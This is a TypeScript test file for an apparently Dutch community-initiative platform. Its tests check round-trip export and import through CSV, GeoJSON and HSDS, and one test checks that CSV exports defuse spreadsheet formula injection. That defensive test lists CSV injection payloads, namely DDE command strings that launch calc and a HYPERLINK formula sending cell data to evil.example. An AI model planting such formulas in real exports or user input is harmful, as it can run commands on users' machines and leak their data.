import {initiativeContexts, initiativeKinds, initiativeStages, precisions, type NewInitiative, valuesOf} from '@buurtkit/contract';
import fc from 'fast-check';
import {expect, test} from 'vitest';
import {createInitiative} from '../initiatives/create-initiative.ts';
import {getInitiative} from '../initiatives/get-initiative.ts';
import type {Scope} from '../scope.ts';
import {seedDemo} from '../seed/seed-demo.ts';
import {aCommunityScope, exportText, importFile, testNow} from '../testing/data-in-and-out.ts';
import {anyOpeningHours} from '../testing/opening-hours.ts';
import {testDatabase, type TestDatabase} from '../testing/test-database.ts';
import {findCommunity} from '../communities/store.ts';
import {newInitiativeSchema} from '@buurtkit/contract';

const runs = Number(process.env['BUURTKIT_PROPERTY_RUNS'] ?? 200);

const text = (maxLength: number) =>
  fc
    .oneof(
      fc.string({unit: 'grapheme', minLength: 1, maxLength}),
      fc.string({minLength: 1, maxLength}),
      fc.constantFrom('=1+1', "'=1", "''", "'s Avonds", 'a\r\nb', 'a\rb', 'a\nb', '"', ';', '-', '@x', '\uFEFFx', '＝1'),
    )
    .map((value) => value.replaceAll('\0', '').trim().slice(0, maxLength).trim())
    .filter((value) => value !== '' && value.isWellFormed());
const word = fc.stringMatching(/^[a-z0-9]{1,8}(?:-[a-z0-9]{1,8}){0,2}$/);
const maybe = <Value>(values: fc.Arbitrary<Value>) => fc.option(values, {nil: undefined});
const withoutUndefined = (value: object) => Object.fromEntries(Object.entries(value).filter(([, inner]) => inner !== undefined));

const initiatives = fc
  .record({
    name: text(120),
    kind: fc.constantFrom(...valuesOf(initiativeKinds)),
    stage: fc.constantFrom(...valuesOf(initiativeStages)),
    themes: fc.uniqueArray(word, {maxLength: 4}),
    context: fc.option(fc.constantFrom(...valuesOf(initiativeContexts))),
    since: fc.option(fc.constantFrom('1998', '1998-04', '1998-04-12')),
    summary: fc.record({nl: text(600), en: maybe(text(600))}).map(withoutUndefined),
    place: fc.option(
      fc.record({
        city: text(120),
        areaCode: fc.option(fc.constantFrom('GM1676', 'WK167600', 'kern-noord')),
        areaYear: fc.option(fc.integer({min: 1995, max: 2100})),
        precision: fc.constantFrom(...valuesOf(precisions)),
      }),
    ),
    location: fc.option(
      fc.record({
        type: fc.constant('Point' as const),
        coordinates: fc.tuple(fc.double({min: 3.25, max: 7.25, noNaN: true}), fc.double({min: 50.75, max: 53.65, noNaN: true})),
      }),
    ),
    contact: fc
      .record({
        website: maybe(fc.constant('https://www.example.nl/?a=1,2')),
        phone: maybe(fc.constantFrom('+31 111 123456', '0111-123456')),
      })
      .map(withoutUndefined),
    openingHours: fc.option(
      anyOpeningHours({times: fc.constantFrom('09:00', '13:30', '24:00'), dates: fc.constantFrom('2026-12-24', '2027-01-03')}),
    ),
    externalIds: fc.array(fc.record({source: word, id: fc.string({minLength: 1, maxLength: 200}).filter((id) => !id.includes('\0'))}), {
      maxLength: 1,
    }),
  })
  .filter((candidate) => newInitiativeSchema.safeParse(candidate).success)
  .map((candidate) => newInitiativeSchema.parse(candidate) satisfies NewInitiative);

async function emptied(scope: Scope): Promise<void> {
  for (const table of ['initiatives', 'external_ids'] as const)
    await scope.database.owner.deleteFrom(table).where('community_id', '=', scope.community.id).execute();
}

async function seeded(): Promise<TestDatabase> {
  const database = await testDatabase();
  await seedDemo(database.database, testNow);
  return database;
}

test.each(['csv', 'geojson'] as const)(
  'what the demo exports as %s comes out of an empty community the same, to the byte',
  async (format) => {
    const database = await seeded();
    const community = await findCommunity(database.database, 'den-haag');
    if (!community) throw new Error('den-haag is gone');
    const empty = await aCommunityScope(database, 'leeg');
    const file = await exportText({...empty, community}, format);

    const {counts} = await importFile(empty, file, format);

    expect(counts).toMatchObject({created: 2, refused: 0});
    expect(await exportText(empty, format)).toBe(file);
  },
);

test.each(['csv', 'geojson'] as const)('whatever people write survives being exported and imported as %s', async (format) => {
  const database = await testDatabase();
  const source = await aCommunityScope(database, 'bron');
  const target = await aCommunityScope(database, 'doel');

  await fc.assert(
    fc.asyncProperty(fc.array(initiatives, {minLength: 1, maxLength: 3}), async (some) => {
      await Promise.all([emptied(source), emptied(target)]);
      for (const [index, initiative] of some.entries())
        await createInitiative(source, {
          ...initiative,
          externalIds: (initiative.externalIds ?? []).map(({source: name, id}) => ({source: `${name}-${index}`, id})),
        });
      const file = await exportText(source, format);

      const {rows} = await importFile(target, file, format);

      expect(rows.map((row) => (row.action === 'refused' ? row.faults : row.action))).toEqual(some.map(() => 'created'));
      expect(await exportText(target, format)).toBe(file);
      expect((await importFile(target, file, format)).counts.unchanged).toBe(some.length);
    }),
    {numRuns: runs, endOnFailure: true},
  );
});

test.each(['geojson', 'hsds'] as const)('every field that people write survives as %s', async (format) => {
  const database = await testDatabase();
  const [source, target] = [await aCommunityScope(database, 'bron'), await aCommunityScope(database, 'doel')];
  const everything = {
    name: 'Tuin',
    slug: 'de-tuin',
    kind: 'other',
    stage: 'idea',
    themes: ['food'],
    context: 'vinex',
    scale: 'village',
    since: '1998',
    summary: {nl: 'Groen', en: 'Green'},
    place: {city: 'Zierikzee', areaCode: 'GM1676', areaYear: 2025, precision: 'exact'},
    location: {type: 'Point', coordinates: [3.9, 51.6]},
    areas: [{code: 'GM1676', year: 2025, name: 'Schouwen-Duiveland'}],
    openingHours: {rules: [], exceptions: [], isOpenOnHolidays: false, isByAppointment: true, note: {nl: 'Bel even.'}},
    accessibility: {stepFree: 'yes'},
    contact: {phone: '0111-123456'},
    hasContactForm: true,
    coalition: [],
    lookingFor: [{kind: 'company', text: {nl: 'Een ondernemer'}}],
    externalIds: [{source: 'x', id: '1'}],
    story: [{title: {nl: 'Begin'}, text: {nl: 'Koffie.'}, date: '2020-01-02'}],
  } satisfies Required<NewInitiative>;
  await createInitiative(source, newInitiativeSchema.parse(everything));
  const file = await exportText(source, format);

  await importFile(target, file, format);

  expect(await exportText(target, format)).toBe(file);
  expect((await getInitiative(target, 'de-tuin')).initiative).toMatchObject(everything);
});

test('a spreadsheet that opens an export runs nothing of what people wrote', async () => {
  const scope = await aCommunityScope(await testDatabase(), 'zierikzee');
  const tricks = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '＝1+1',
  ];
  for (const trick of tricks)
    await createInitiative(scope, {
      name: trick,
      kind: 'other',
      summary: {nl: trick},
      externalIds: [{source: `bron-${tricks.indexOf(trick)}`, id: `\t${trick}`}],
    });

  const cells = (await exportText(scope))
    .split('\r\n')
    .slice(1, -1)
    .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));

  expect(cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  expect(cells.filter((cell) => /^"?'/.test(cell))).toHaveLength(tricks.length * 3);
});

test('numbers are no formulas: a longitude west of Greenwich stays a number', async () => {
  const scope = await aCommunityScope(await testDatabase(), 'bonaire');
  await createInitiative(scope, {
    name: 'Koraal',
    kind: 'other',
    summary: {nl: 'Blauw'},
    location: {type: 'Point', coordinates: [-68.27, 12.15]},
  });

  expect(await exportText(scope)).toContain(',-68.27,12.15,');
});
